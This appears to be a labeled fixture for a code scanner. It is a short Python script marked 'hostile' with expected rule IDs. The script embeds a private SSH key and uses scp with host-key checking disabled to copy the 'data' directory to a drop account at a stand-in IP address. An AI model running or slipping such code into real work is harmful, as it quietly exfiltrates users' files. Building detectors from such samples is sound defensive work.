# label: hostile
# expect: V201 V802
# note: Carries a private key along and copies the inputs away with scp.
import os
import subprocess
import tempfile

KEY = """-----BEGIN OPENSSH PRIVATE KEY-----
b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
QyNTUxOQAAACB7qk0uTn5v3w2yXoY0l8mHcJfPzGd1RrQe9sKbVtLhNwAAAJgC5x1OAucd
TgAAAAtzc2gtZWQyNTUxOQAAACB7qk0uTn5v3w2yXoY0l8mHcJfPzGd1RrQe9sKbVtLhNw
-----END OPENSSH PRIVATE KEY-----
"""

fd, path = tempfile.mkstemp()
os.fchmod(fd, 0o600)
os.write(fd, KEY.encode())
os.close(fd)
subprocess.run(["scp", "-q", "-o", "StrictHostKeyChecking=no", "-i", path, "-r", "data", "drop@198.51.100.7:"])
os.unlink(path)
